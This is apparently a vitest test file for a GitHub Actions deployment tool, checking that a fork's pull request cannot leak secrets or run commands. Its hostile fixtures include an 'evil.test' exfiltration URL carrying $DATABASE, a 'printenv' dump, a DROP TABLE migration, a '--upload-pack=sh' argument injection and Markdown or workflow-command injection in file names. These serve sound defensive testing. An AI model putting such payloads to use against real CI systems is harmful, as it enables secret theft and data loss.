import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { parse, stringify } from "yaml";
import { actions } from "../../src/actions/index.ts";
import { comment } from "../../src/actions/proposal/static-plan.ts";
import { readTask } from "../../src/actions/task.ts";
import type { ProposalPlan } from "../../src/core/proposal.ts";
import { RefusedError } from "../../src/kit/errors.ts";
import { githubPlace, memoryGitHub } from "../doubles/github.ts";
import { testEffects } from "../effects.ts";
import { openQuickstart, type Quickstart } from "./quickstart.ts";

let quickstart: Quickstart;
let eventPath: string;
beforeAll(async () => {
  quickstart = await openQuickstart();
  eventPath = join(quickstart.world.folder, "event.json");
});
afterAll(() => quickstart.close());

const secret = "hunter2-the-production-password";
const environment = () => ({
  GITHUB_ACTIONS: "true",
  GITHUB_EVENT_NAME: "pull_request",
  GITHUB_EVENT_PATH: eventPath,
  GITHUB_REPOSITORY: "octo-org/shop",
  DATABASE: secret,
});

type File = Record<string, Record<string, unknown>>;

/** A branch of a fork, merged into v2 as GitHub checks it out; `files` are what it brings. */
function propose(
  files: Readonly<Record<string, string>>,
  base = quickstart.world.git("rev-parse", "v2"),
): { readonly base: string; readonly head: string } {
  const { git } = quickstart.world;
  const head = commit(base, files);
  git("checkout", "--quiet", "--detach", base);
  git(...author, "merge", "--quiet", "--no-ff", "--message", "merge", head);
  quickstart.env.GITHUB_SHA = git("rev-parse", "HEAD");
  tell(base, head);
  return { base, head };
}

const author = ["-c", "user.name=mallory", "-c", "user.email=m@example.com"];

function commit(onto: string, files: Readonly<Record<string, string>>): string {
  const { git, folder } = quickstart.world;
  git("checkout", "--quiet", "--force", "--detach", onto);
  for (const [path, text] of Object.entries(files)) {
    const target = join(folder, "repository", path);
    mkdirSync(dirname(target), { recursive: true });
    writeFileSync(target, text);
  }
  git("add", "--all");
  git(...author, "commit", "--quiet", "--message", "harmless");
  return git("rev-parse", "HEAD");
}

function tell(base: string, head: string): void {
  const event = { pull_request: { number: 12, base: { sha: base, ref: "main" }, head: { sha: head } } };
  writeFileSync(eventPath, JSON.stringify(event));
}

/** deploy.yml of v2, changed as somebody would who is after the password. */
function hostile(): string {
  const path = join(quickstart.world.folder, "repository/.github/deploy.yml");
  const file = parse(readFileSync(path, "utf8")) as File;
  Object.assign(file.backup ?? {}, { store: "directory", "directory-path": "https://evil.test/?leak=$DATABASE" });
  file.migrate = { ...file.migrate, before: [["sh", "-c", "printenv > leaked"]], "dbmate-table": "$NEW_NAME" };
  file.plan = { contacts: [{ role: "x", reach: "$DATABASE" }] };
  return stringify({ ...file, application: "$DATABASE" });
}

beforeEach(async () => {
  await quickstart.reset();
  Object.assign(quickstart.env, environment());
});

describe("a pull request that changes deploy.yml to print a secret", () => {
  const attack = async () => {
    const commits = propose({
      ".github/deploy.yml": hostile(),
      "db/migrations/20991231000000_steal.sql": "-- migrate:up\nDROP TABLE tickets;\n",
    });
    const { world, env } = quickstart;
    const effects = testEffects({
      folder: join(world.folder, "repository"),
      temporary: world.folder,
      env: (name) => env[name] || undefined,
    });
    const programs: string[] = [];
    const exec = {
      ...effects.exec,
      run: (words: Parameters<typeof effects.exec.run>[0], options?: Parameters<typeof effects.exec.run>[1]) => {
        programs.push(words[0]);
        return effects.exec.run(words, options);
      },
    };
    const asked: string[] = [];
    const watched = {
      ...effects,
      exec,
      env: (name: string) => {
        asked.push(name);
        return effects.env(name);
      },
    };
    const before = quickstart.traces();
    const plan = await actions.plan?.();
    const given = { "env-allow": "DATABASE, NEW_NAME", dotenv: "NEW_NAME=other-secret" };
    const ended = await plan?.run(await readTask(plan, given, watched));
    expect(quickstart.traces()).toEqual(before);
    return { ...commits, ended, programs, asked, lines: effects.lines };
  };

  test("gets none: nothing is run but git, no name is resolved, no variable is asked for", async () => {
    const { ended, programs, asked, lines } = await attack();
    expect(new Set(programs)).toEqual(new Set(["git"]));
    expect(asked).not.toContain("DATABASE");
    expect(asked).not.toContain("NEW_NAME");
    const everything = JSON.stringify([ended, lines]);
    expect(everything).not.toContain(secret);
    expect(everything).not.toContain("other-secret");
    expect(ended?.failure).toBeUndefined();
  });

  test("is told to whoever reads it: each key, each new variable, and that it counts after the merge alone", async () => {
    const { ended, base, head } = await attack();
    const plan = JSON.parse(ended?.outputs.plan ?? "") as ProposalPlan;
    expect(plan).toMatchObject({ application: "quickstart", number: 12, base: { branch: "main", commit: base } });
    expect(ended?.outputs).toMatchObject({ release: head, digest: "", "rollback-plan": "[]" });
    expect(plan.keys?.map(({ key }) => key)).toEqual([
      "application",
      "backup.directory-path",
      "migrate.before[0][0]",
      "migrate.before[0][1]",
      "migrate.before[0][2]",
      "migrate.dbmate-table",
      "plan.contacts[0].reach",
      "plan.contacts[0].role",
    ]);
    expect(plan.newNames).toEqual(["NEW_NAME"]);
    expect(plan.migrations).toEqual([{ status: "A", path: "db/migrations/20991231000000_steal.sql" }]);
    expect(plan.contacts).toEqual([]);
    expect(plan.chain.map(({ stage }) => stage)).toContain("traffic-shift");
    const text = ended?.outputs["plan-comment"] ?? "";
    expect(ended?.summary).toBe(text);
    expect(text).toContain("### Changes to `.github/deploy.yml`, used only after the merge");
    expect(text).toContain("- Wants the variable `$NEW_NAME`, which it did not before");
    expect(text).toContain("| `db/migrations/20991231000000_steal.sql` | new |");
    expect(text).toContain('| `application` | `"quickstart"` | `"$DATABASE"` |');
  });
});

describe("a pull request", () => {
  const plan = async (): Promise<ProposalPlan> => {
    const { outputs, failure } = await quickstart.run("plan");
    expect(failure).toBeUndefined();
    return JSON.parse(outputs.plan ?? "") as ProposalPlan;
  };

  test("gets no value of a name that the base branch itself uses", async () => {
    const plan = "plan:\n  contacts: [{ role: on call, reach: $DATABASE }]\n";
    propose({ "readme.txt": "hello" }, commit("v2", { ".github/deploy.yml": `application: $DATABASE\n${plan}` }));
    const { outputs, summary } = await quickstart.run("plan", { "env-allow": "DATABASE" });
    const told = JSON.parse(outputs.plan ?? "") as ProposalPlan;
    expect(told).toMatchObject({ application: "$DATABASE", contacts: [{ role: "on call", reach: "$DATABASE" }] });
    expect(JSON.stringify([outputs, summary])).not.toContain(secret);
  });

  test("is told what nobody can know without resolving a name", async () => {
    const file = "application: quickstart\nplan: { freeze: [{ cron: 0 18 * * FRI, for: $LENGTH }] }\n";
    propose({ "readme.txt": "hello" }, commit("v2", { ".github/deploy.yml": file }));
    const { notLookedAt, times } = await plan();
    expect(times).toEqual([]);
    expect(notLookedAt[0]).toMatch(/^checklist, times and contacts, because a `\$NAME`/);
  });

  test("is told when releases may begin, what has to be shown, and whom to call", async () => {
    const file = stringify({
      application: "quickstart",
      plan: {
        freeze: [{ cron: "0 18 * * FRI", for: "62h", "time-zone": "Europe/Berlin", why: "weekend" }],
        window: [{ cron: "0 9 * * MON-THU", for: "7h" }],
        checklist: [{ item: "load test", check: "k6" }],
        contacts: [{ role: "on call", reach: "extension 12" }],
      },
    });
    propose({ "readme.txt": "hello" }, commit("v2", { ".github/deploy.yml": file }));
    expect(await plan()).toMatchObject({
      times: [
        "nothing is released: `0 18 * * FRI` for 2 d 14 h (Europe/Berlin): weekend",
        "releases may begin: `0 9 * * MON-THU` for 7 h (UTC)",
      ],
      checklist: [{ item: "load test", isMet: null }],
      contacts: [{ role: "on call", reach: "extension 12" }],
    });
  });

  test("that changes neither migrations nor deploy.yml says so", async () => {
    propose({ "readme.txt": "hello" });
    expect(await plan()).toMatchObject({ migrations: [], keys: [], problems: [], newNames: [] });
    const { summary } = await quickstart.run("plan");
    expect(summary).toContain("No migration is changed.");
    expect(summary).not.toContain("used only after the merge");
  });

  test("with a deploy.yml that would be refused is told why before the merge", async () => {
    propose({ ".github/deploy.yml": "application: quickstart\ntrafic-shift: {}\n" });
    const { problems } = await plan();
    expect(problems).toEqual([".github/deploy.yml: unknown key `trafic-shift`; did you mean `traffic-shift`?"]);
  });

  test("whose deploy.yml is no YAML at all is told so", async () => {
    propose({ ".github/deploy.yml": "application: [\n" });
    const { problems, chain } = await plan();
    expect(problems[0]).toMatch(/^\.github\/deploy\.yml:\d+:\d+: /);
    expect(chain.length).toBeGreaterThan(0);
  });

  test("whose commits the checkout does not hold is told what was not looked at", async () => {
    const { base } = propose({ "readme.txt": "hello" });
    tell(base, "f".repeat(40));
    quickstart.env.GITHUB_EVENT_NAME = "pull_request_target";
    quickstart.world.git("checkout", "--quiet", "--detach", "v2");
    const { migrations, keys, notLookedAt, chain } = await plan();
    expect({ migrations, keys }).toEqual({ migrations: null, keys: null });
    expect(notLookedAt[0]).toContain("check out `refs/pull/12/merge`");
    expect(chain.length).toBeGreaterThan(0);
  });

  test("against a base that the checkout does not hold is refused with the remedy", async () => {
    const { head } = propose({ "readme.txt": "hello" });
    tell("f".repeat(40), head);
    const { failure } = await quickstart.run("plan");
    expect(failure?.message).toContain("does not hold ffffffff, the commit of the base branch");
    expect(failure?.hint).toContain("fetch-depth: 0");
  });

  test("with an event that names a base that is no commit is refused: git is handed nothing else", async () => {
    propose({ "readme.txt": "hello" });
    tell("--upload-pack=sh", "v2");
    const { failure } = await quickstart.run("plan");
    expect(failure?.message).toContain("GITHUB_EVENT_PATH: does not tell of a pull request");
  });

  test("with file names and keys that are Markdown is only read", async () => {
    const name = "db/migrations/`x` <img src=x> [a](b) @octocat ::error::.sql";
    propose({ [name]: "x", ".github/deploy.yml": "application: 'a` | <img src=y>'\n'<b>::warning::': 1\n" });
    const { summary = "" } = await quickstart.run("plan");
    const outside = summary.replace(/`[^`\n]*`/g, "").replace(/\\[\\`*_{}[\]<>#|~]/g, ".");
    expect(outside).not.toMatch(/<img|<b>|\[a\]|@o|::/);
  });
});

test.each(Object.keys(actions).filter((name) => name !== "plan"))(
  "`%s` does nothing on the events of a pull request, whatever kind",
  async (name) => {
    for (const event of ["pull_request", "pull_request_target", "pull_request_review"]) {
      quickstart.env.GITHUB_EVENT_NAME = event;
      const before = quickstart.traces();
      const { failure } = await quickstart.run(name);
      expect(failure).toBeInstanceOf(RefusedError);
      expect(failure?.message).toMatch(new RegExp(`^\`${name}\` does nothing on a \`${event}\` event: `));
      expect(quickstart.traces()).toEqual(before);
    }
  },
);

describe("the comment on the pull request", () => {
  const plan = { number: 12, application: "shop", environment: "production" } as ProposalPlan;

  test("is written once and edited afterwards", async () => {
    const place = githubPlace();
    expect(await comment(memoryGitHub(place), plan, "first")).toBe("");
    expect(await comment(memoryGitHub(place), plan, "second")).toBe("");
    expect([...place.comments.values()]).toEqual(["<!-- deploy%2Dactions plan shop production -->\nsecond"]);
  });

  test("that a fork's token may not write is said, and no failure", async () => {
    const place = githubPlace();
    place.fail = () => new RefusedError("GitHub refuses to comment on #12: Resource not accessible");
    const told = await comment(memoryGitHub(place), plan, "text");
    expect(told).toMatch(/^The comment on the pull request could not be written: GitHub refuses/);
    expect(place.comments.size).toBe(0);
  });
});
